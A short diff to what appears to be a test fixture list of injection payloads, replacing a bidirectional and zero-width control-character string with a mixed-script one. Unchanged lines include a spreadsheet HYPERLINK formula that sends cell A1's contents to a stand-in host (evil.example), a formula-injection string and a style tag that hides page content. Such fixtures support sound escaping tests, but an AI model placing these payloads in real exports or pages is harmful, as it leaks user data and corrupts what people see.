@@ -36,7 +36,7 @@ PAYLOADS = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"xss-13")',
     "+1+1 @SUM(A1) -2 xss-14",
     "*xss-15* _under_ `code` # heading | pipe | ~~strike~~",
-    "\u202exss-16\u202c \u200fmark\u200e zero\u200dwidth",
+    "xss-16 한국어 Ελληνικά кириллица עברית العربية mixed scripts",
     "]]> <![CDATA[ xss-17 <!-- comment",
     "&amp; &lt;b&gt; xss-18 \\ backslash",
     "<style>body{display:none}</style> xss-19",
